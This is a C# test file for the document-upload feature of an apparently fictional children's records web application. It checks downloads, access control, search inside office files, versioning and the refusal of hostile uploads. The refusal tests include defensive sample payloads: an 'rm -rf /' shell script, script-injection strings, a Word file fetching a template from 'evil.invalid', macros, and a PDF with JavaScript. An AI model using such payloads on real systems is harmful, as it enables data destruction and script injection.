using System.IO.Compression;
using System.Net;
using System.Text;
using Linnet.Children;
using Linnet.Record;
using static Linnet.Web.Tests.CouncilOnScreen;

namespace Linnet.Web.Tests;

public sealed class DocumentsTests(TestCluster cluster)
{
    private const string Room = "/children/1001/documents";
    private const string Form = "/children/1001/add/document";

    private static readonly Entry[] Known =
    [
        Happened("1001", "2025-06-01", new ChildDetails { GivenNames = "Amira", FamilyName = "Castellan" }),
        Happened("1002", "2025-06-01", new ChildDetails { GivenNames = "Wren", FamilyName = "Odell" }),
    ];

    private static readonly byte[] Letter = "Dear colleague, Amira came with a burn on her wrist."u8.ToArray();
    private static readonly byte[] Pixel = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    [Fact]
    public async Task A_document_lies_beside_the_record_and_comes_back_byte_for_byte_as_something_to_save()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");

        var room = await AddAsync(worker, "C:\\letters\\Amira Castellan.txt", Letter, ("title", "Letter of the surgery"), ("what", "letter"), ("writtenBy", "Dr Okafor, Mill Lane Surgery"), ("happened", "12/3/2026"));

        Assert.Equal(Room, room.Path);
        room.AssertSays("1 document, the newest first.");
        room.AssertSays("Letter of the surgery Letter 12 March 2026 Dr Okafor, Mill Lane Surgery added by Robin Ashdown Plain text, 1 KB of 12 March 2026 Its words can be searched");

        using var answer = await worker.Browser.GetAsync(new Uri(FileLink(room), UriKind.Relative));
        Assert.Equal(Letter, await answer.Content.ReadAsByteArrayAsync());
        Assert.Equal("text/plain", answer.Content.Headers.ContentType?.ToString());
        Assert.Equal("attachment; filename=letter-2026-03-12.txt; filename*=UTF-8''letter-2026-03-12.txt", answer.Content.Headers.ContentDisposition?.ToString());
        Assert.Equal(["nosniff"], answer.Headers.GetValues("X-Content-Type-Options"));
        Assert.True(answer.Headers.CacheControl?.NoStore);
        Assert.Equal("children/documents/file", (await council.LooksAtAsync("child:1001"))[^1]);
        Assert.DoesNotContain("Amira", FileLink(room), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_was_typed_beside_a_file_that_was_sent_after_signing_out_is_there_again_and_the_file_is_asked_for()
    {
        await using var council = await WithAsync(cluster, Known);
        var form = await (await council.SignInAsync("W1")).OpenAsync(Form);

        var asked = await council.Visit().SendFileAsync(form, Form, "a.txt", Letter, ("happened", "12/3/2026"), ("title", "Letter of the surgery"), ("summary", "A burn on her wrist. 😟"));
        var back = await (await council.SignInAsync("W1")).OpenAsync(Form);

        Assert.StartsWith("/sign-in", asked.Path, StringComparison.Ordinal);
        Assert.Equal("Letter of the surgery", back.TypedInto("title"));
        back.AssertSays("This is what you had typed at");
        back.AssertSays("Choose it again: a browser does not keep it");
        Assert.Equal("", (await (await council.SignInAsync("M1")).OpenAsync(Form)).TypedInto("title"));
        (await (await council.SignInAsync("W1")).OpenAsync(Room)).AssertSays("No letter, report, photograph or other file lies beside this record.");
    }

    [Fact]
    public async Task A_file_is_not_found_by_way_of_another_child_nor_by_who_is_signed_out()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        var link = FileLink(await AddAsync(worker, "a.txt", Letter));

        Assert.Equal(HttpStatusCode.NotFound, (await worker.OpenAsync(link.Replace("1001", "1002", StringComparison.Ordinal))).Status);
        Assert.StartsWith("/sign-in", (await council.Visit().OpenAsync(link)).Path, StringComparison.Ordinal);
        Assert.Empty(await council.LooksAtAsync("child:1002"));
    }

    [Fact]
    public async Task Words_in_a_text_a_word_document_an_opendocument_and_a_workbook_are_found()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        await AddAsync(worker, "a.txt", Letter, ("title", "A"));
        await AddAsync(worker, "b.docx", Docx("<w:p><w:r><w:t>A sc</w:t></w:r><w:r><w:t>ald on her wrist.</w:t></w:r></w:p>"), ("title", "B"));
        await AddAsync(worker, "c.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<m:manifest xmlns:m='m'><m:file-entry m:full-path='/' m:media-type='application/vnd.oasis.opendocument.text'/></m:manifest>"), ("content.xml", "<o:text xmlns:o='o'><o:p>Her wrist <o:span>again</o:span>.</o:p></o:text>")), ("title", "C"));
        await AddAsync(worker, "d.xlsx", Zip(("[Content_Types].xml", Types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")), ("xl/sharedStrings.xml", "<sst><si><t>left wrist</t></si></sst>")), ("title", "D"));

        var found = await worker.SendAsync(await worker.OpenAsync("/children/1001/search"), "/children/1001/search", ("words", "wrist"));

        found.AssertSays("4 entries found");
        found.AssertSays("In the document itself A scald on her wrist .");
        found.AssertSays("In the document itself Her wrist again.");
    }

    [Fact]
    public async Task Words_in_a_pdf_are_found_where_the_server_has_the_program_that_reads_them()
    {
        Assert.SkipUnless(Environment.GetEnvironmentVariable("PATH")?.Split(':').Any(p => File.Exists(Path.Combine(p, "pdftotext"))) == true, "pdftotext is not on this machine");
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        await AddAsync(worker, "a.pdf", Pdf("She has a scaphoid fracture."));

        (await worker.SendAsync(await worker.OpenAsync("/children/1001/search"), "/children/1001/search", ("words", "scaphoid"))).AssertSays("In the document itself She has a scaphoid fracture.");
    }

    [Fact]
    public async Task A_picture_and_a_pdf_say_that_their_words_cannot_be_searched()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        await AddAsync(worker, "a.png", Pixel, ("title", "Drawing"), ("what", "by-child"));

        (await AddAsync(worker, "b.pdf", "%PDF-1.7\n%%EOF\n"u8.ToArray(), ("title", "Report"))).AssertSays("PDF, 1 KB of 12 March 2026 Its words cannot be read here, so they cannot be searched");
        (await worker.OpenAsync(Room)).AssertSays("A picture: words in it cannot be searched");
    }

    [Fact]
    public async Task A_newer_version_stands_before_the_earlier_one_which_stays()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        await AddAsync(worker, "a.txt", Letter, ("title", "Health plan"), ("happened", "12/3/2026"));

        var asked = await AddAsync(worker, "a.txt", "Another plan."u8.ToArray(), ("title", "health  PLAN"), ("happened", "20/3/2026"));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, asked.Status);
        asked.AssertSays("A document with this title is here, of 12 March 2026. If this is a newer version of it, say so below; if not, give it another title");

        var room = await AddAsync(worker, "a.txt", "Another plan."u8.ToArray(), ("title", "health  PLAN"), ("happened", "20/3/2026"), ("newerVersion", "yes"));
        room.AssertSays("1 document, the newest first.");
        room.AssertSays("1 earlier version 12 March 2026 , Plain text, 1 KB of 12 March 2026");
        (await AddAsync(worker, "a.txt", "Third."u8.ToArray(), ("title", "Care plan"), ("newerVersion", "yes"))).AssertSays("No document with this title is here.");
    }

    [Fact]
    public async Task A_second_click_and_a_second_form_with_the_same_file_add_nothing()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        var form = await worker.OpenAsync(Form);

        Assert.Equal(Room, (await SendAsync(worker, form, "a.txt", Letter)).Path);
        Assert.Equal(Room, (await SendAsync(worker, form, "a.txt", Letter)).Path);
        (await AddAsync(worker, "other-name.txt", Letter, ("title", "Another title"))).AssertSays("This same file is here already, with the day 12 March 2026.");

        (await worker.OpenAsync(Room)).AssertSays("1 document, the newest first.");
    }

    public static TheoryData<string, byte[], string> Hostile => new()
    {
        { "empty.pdf", [], "The file is empty." },
        { "setup.pdf", [.. "MZ"u8, 0x90, 0, .. new byte[200]], "This is a program." },
        { "run.txt", "#!/bin/sh\nrm -rf /"u8.ToArray(), "This is a program." },
        { "page.txt", "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray(), "This is a web page or a drawing made of script" },
        { "hidden.txt", "Dear colleague <SVG onload=alert(1)>"u8.ToArray(), "This is a web page or a drawing made of script" },
        { "drawing.png", "<svg xmlns='http://www.w3.org/2000/svg'/>"u8.ToArray(), "This is a web page or a drawing made of script" },
        { "macros.docx", Zip(("[Content_Types].xml", Types("application/vnd.ms-word.document.macroEnabled.main+xml")), ("word/vbaProject.bin", "x")), "The file holds macros, which are programs." },
        { "macros-as-plain.docx", Docx("", ("word/vbaProject.bin", "x")), "The file holds macros, which are programs." },
        { "carries.docx", Docx("", ("word/embeddings/oleObject1.bin", "x")), "The file carries another file or program inside it." },
        { "fetches.docx", Docx("", ("word/_rels/settings.xml.rels", "<Relationships><Relationship Type='http://x/attachedTemplate' Target='http://evil.invalid/t.dotm' TargetMode='External'/></Relationships>")), "The file fetches a part of itself from elsewhere" },
        { "entities.docx", Zip(("[Content_Types].xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><Types/>")), "The file is damaged, or made to do harm" },
        { "photographs.zip", Zip(("one.jpg", "x")), "This is a packed folder, or a kind of Office file that is not kept here." },
        { "broken.docx", [.. "PK"u8, 3, 4, .. new byte[400]], "The file is damaged, or made to do harm" },
        { "old.doc", [0xD0, 0xCF, 0x11, 0xE0, .. new byte[600]], "This is an older Office file, an Outlook message or a file with a password." },
        { "scripted.pdf", "%PDF-1.7\n/OpenAction << /S /JavaScript >>\n%%EOF"u8.ToArray(), "The PDF holds a program." },
        { "cut.pdf", "%PDF-1.7\n"u8.ToArray(), "The PDF has no end" },
        { "polyglot.png", [.. Pixel, .. "PK\u0003\u0004"u8], "The picture is damaged, or something else hangs on to it." },
        { "mail.txt", "From: a@b\nMIME-Version: 1.0\n\nHello"u8.ToArray(), "This is an e-mail, which can carry other files." },
        { "unknown.bin", [1, 2, 3, 0, 5], "This kind of file is not kept here." },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task What_can_run_or_is_not_known_for_harmless_is_refused_whatever_it_is_called_and_the_answers_come_back(string name, byte[] file, string says)
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");

        var again = await AddAsync(worker, name, file, ("title", "Letter of the surgery"), ("writtenBy", "Dr Okafor"));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, again.Status);
        again.AssertSays(says);
        Assert.Equal(("Letter of the surgery", "Dr Okafor", "12/3/2026"), (again.TypedInto("title"), again.TypedInto("writtenBy"), again.TypedInto("happened")));
        (await worker.OpenAsync(Room)).AssertSays("No letter, report, photograph or other file lies beside this record.");
    }

    [Fact]
    public async Task Everything_that_is_wrong_is_said_at_once()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        var form = await worker.OpenAsync(Form);

        var again = await worker.SendAsync(form, Form, ("title", ""), ("happened", "tbc"));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, again.Status);
        again.AssertSays("Choose a file");
        again.AssertSays("'tbc' is not a date.");
        again.AssertSays("Enter an answer to 'What is it called?'");
        (await AddAsync(worker, "a.txt", Letter, ("happened", "1/4/2026"))).AssertSays("The day on the document is still to come. Check it");
        (await AddAsync(worker, "a.txt", new byte[(32 << 20) + 1])).AssertSays("The file is larger than 32 MB.");
    }

    [Fact]
    public async Task A_form_that_comes_after_its_writer_was_signed_out_adds_nothing_and_what_was_typed_is_there_when_they_are_back()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        var form = await worker.OpenAsync(Form);
        var kept = form.Unseen(Form).Concat([KeyValuePair.Create("title", "Letter of the surgery"), KeyValuePair.Create("file", "[object File]")]);
        using var typed = new FormUrlEncodedContent(kept);
        Assert.Equal(HttpStatusCode.NoContent, (await worker.Browser.PostAsync(new Uri("/writing", UriKind.Relative), typed)).StatusCode);

        Assert.StartsWith("/sign-in", (await SendAsync(council.Visit(), form, "a.txt", Letter)).Path, StringComparison.Ordinal);

        var back = await (await council.SignInAsync("W1")).OpenAsync(Form);
        Assert.Equal("Letter of the surgery", back.TypedInto("title"));
        back.AssertSays("Choose it again: a browser does not keep it");
        (await worker.OpenAsync(Room)).AssertSays("No letter, report");
    }

    [Fact]
    public async Task A_correction_keeps_the_file_whatever_fingerprint_is_sent()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        var room = await AddAsync(worker, "a.txt", Letter, ("title", "Leter"));
        var correct = await worker.OpenAsync($"{room.LinkTo("Leter")}/correct");

        await worker.SendAsync(correct, correct.Path, ("title", "Letter"), ("what", "letter"), ("happened", "12/3/2026"), ("whyCorrected", "Misspelt."), ("file", new string('0', 64)));

        var corrected = await worker.OpenAsync(Room);
        corrected.AssertSays("1 document, the newest first.");
        using var answer = await worker.Browser.GetAsync(new Uri(FileLink(corrected), UriKind.Relative));
        Assert.Equal(Letter, await answer.Content.ReadAsByteArrayAsync());
    }

    [Fact]
    public async Task Is_as_it_was_on_a_day()
    {
        await using var council = await WithAsync(cluster, Known);
        var worker = await council.SignInAsync("W1");
        await AddAsync(worker, "a.txt", Letter, ("title", "Letter of the surgery"));

        (await worker.OpenAsync($"{Room}?asAt=2026-03-12")).AssertSays("Letter of the surgery");
        (await worker.OpenAsync($"{Room}?asAt=2026-03-11")).AssertSays("No letter, report");
        (await worker.OpenAsync($"{Room}?knownAt=2026-03-30")).AssertSays("No letter, report");
    }

    private static async Task<PageSeen> AddAsync(Visitor worker, string name, byte[] file, params (string Name, string Value)[] typed) =>
        await SendAsync(worker, await worker.OpenAsync(Form), name, file, typed);

    private static Task<PageSeen> SendAsync(Visitor worker, PageSeen form, string name, byte[] file, params (string Name, string Value)[] typed)
    {
        (string Name, string Value)[] usual = [("title", "Letter of the surgery"), ("what", "letter"), ("happened", "12/3/2026")];
        return worker.SendFileAsync(form, Form, name, file, [.. usual.Where(u => typed.All(t => t.Name != u.Name)), .. typed]);
    }

    private static string FileLink(PageSeen room) => room.Links().First(l => l.Path.StartsWith($"{Room}/", StringComparison.Ordinal)).Path;

    private static byte[] Docx(string body, params (string Name, string Text)[] more) =>
        Zip([("[Content_Types].xml", Types("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")), ("word/document.xml", $"<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>"), .. more]);

    private static byte[] Pdf(string line) => Encoding.ASCII.GetBytes($"""
        %PDF-1.4
        1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
        2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
        3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 500 200]/Contents 4 0 R/Resources<</Font<</F1 <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> >> >> >> endobj
        4 0 obj <</Length {line.Length + 31}>> stream
        BT /F1 12 Tf 40 100 Td ({line}) Tj ET
        endstream endobj
        trailer <</Root 1 0 R>>
        %%EOF
        """);

    private static string Types(string main) => $"<Types><Override PartName='/main.xml' ContentType='{main}'/></Types>";

    private static byte[] Zip(params (string Name, string Text)[] parts)
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in parts)
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(Encoding.UTF8.GetBytes(text));
            }
        }

        return file.ToArray();
    }
}
